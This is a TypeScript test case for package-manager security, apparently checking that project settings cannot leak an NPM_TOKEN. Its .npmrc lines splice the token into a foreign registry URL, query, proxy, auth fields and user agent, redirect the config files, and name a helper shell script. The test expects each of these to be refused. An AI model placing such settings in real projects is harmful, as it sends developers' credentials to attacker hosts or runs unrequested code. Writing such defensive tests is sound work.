import assert from 'node:assert/strict';
import { chmodSync } from 'node:fs';
import { join } from 'node:path';
import { projectOf, settingPrefix, tokenLine, writeUserSettings } from '../registry-projects.ts';
import { secret } from '../sandbox/find-secret.ts';
import type { Case, ProjectAttack, Sandbox } from '../types.ts';

/** A project whose settings would send a variable of the environment to the second registry. */
function expanding(
  name: string,
  settings: (sandbox: Sandbox) => readonly string[],
  more: Partial<ProjectAttack> = {},
): ProjectAttack {
  return projectOf(name, settings, {
    env: () => ({ npm_config_registry: '', pnpm_config_registry: '', NPM_TOKEN: secret }),
    verdict: { kind: 'refused', code: 'DX_SETTINGS_EXPANSION_REFUSED' },
    check: ({ foreign }) => assert.deepEqual(foreign.requests, []),
    ...more,
  });
}

/** Another file is named, which would be believed more. */
function moved(key: string, name: string, path: string): ProjectAttack {
  const base = expanding(key, () => [`${key}=${name}`], { verdict: { kind: 'anyhow' } });
  return {
    ...base,
    files: (sandbox) => ({
      ...base.files(sandbox),
      [path]: `registry=${sandbox.foreignUrl}\${NPM_TOKEN}/\n`,
    }),
  };
}

function helper(key: string): ProjectAttack {
  const base = expanding(key, () => [], { verdict: { kind: 'anyhow' } });
  return {
    ...base,
    name: `a helper: ${key}`,
    files: (sandbox) => ({
      ...base.files(sandbox),
      '.npmrc': `${key.replace('HOST', settingPrefix(sandbox.registry.url))}=${join(sandbox.project, 'x.sh')}\n`,
      'x.sh': `#!/bin/sh\ntouch '${sandbox.canary}'\necho token\n`,
    }),
    prepare: (sandbox) => {
      writeUserSettings(sandbox, `registry=${sandbox.registry.url}`, tokenLine(sandbox));
      chmodSync(join(sandbox.project, 'x.sh'), 0o755);
    },
  };
}

/** See `what`. */
export const theCase: Case = {
  id: 'R05',
  what: 'The settings of a project put a variable of the environment into an address, a credential for a host of its own, a proxy or the user agent, or name a helper to run',
  source: 'CVE-2025-69262 (GHSA-2phv-j68v-wwqx), CVE-2026-55180 (GHSA-3qhv-2rgh-x77r), pnpm@f85557b73f',
  must: 'A project’s variables are filled in for credentials of hosts that the person named, and nowhere else; helpers and other files of settings are the person’s own choice.',
  attacks: [
    expanding('a registry', ({ foreignUrl }) => [`registry=${foreignUrl}\${NPM_TOKEN}/`]),
    expanding('a query', ({ foreignUrl }) => [`registry=${foreignUrl}?token=\${NPM_TOKEN}`]),
    expanding('a registry of a scope', ({ foreignUrl }) => [`@s:registry=${foreignUrl}\${NPM_TOKEN}/`]),
    expanding('a host', ({ foreignUrl }) => [`registry=${foreignUrl}`, `//\${NPM_TOKEN}/:_authToken=x`]),
    expanding('a token', ({ foreignUrl }) => [
      `registry=${foreignUrl}`,
      `${settingPrefix(foreignUrl)}:_authToken=\${NPM_TOKEN}`,
    ]),
    expanding('a pair', ({ foreignUrl }) => [
      `registry=${foreignUrl}`,
      `${settingPrefix(foreignUrl)}:_auth=\${NPM_TOKEN}`,
    ]),
    expanding('a password', ({ foreignUrl }) => [
      `registry=${foreignUrl}`,
      `${settingPrefix(foreignUrl)}:username=me`,
      `${settingPrefix(foreignUrl)}:_password=\${NPM_TOKEN}`,
    ]),
    expanding('a proxy', ({ foreignUrl }) => [
      `proxy=http://me:\${NPM_TOKEN}@${settingPrefix(foreignUrl).slice(2)}`,
    ]),
    expanding('a proxy for https', ({ foreignUrl }) => [`https-proxy=${foreignUrl}\${NPM_TOKEN}`]),
    expanding('the user agent', ({ foreignUrl }) => [`registry=${foreignUrl}`, `user-agent=\${NPM_TOKEN}`]),
    expanding('a variable that may be unset', ({ foreignUrl }) => [`registry=${foreignUrl}\${NPM_TOKEN?}/`]),
    moved('userconfig', './evilrc', 'evilrc'),
    moved('globalconfig', './evilrc', 'evilrc'),
    moved('prefix', './evil', 'evil/etc/npmrc'),
    ...['tokenHelper', 'HOST:tokenHelper', 'git', 'node-gyp', 'editor', 'browser'].map(helper),
  ],
};
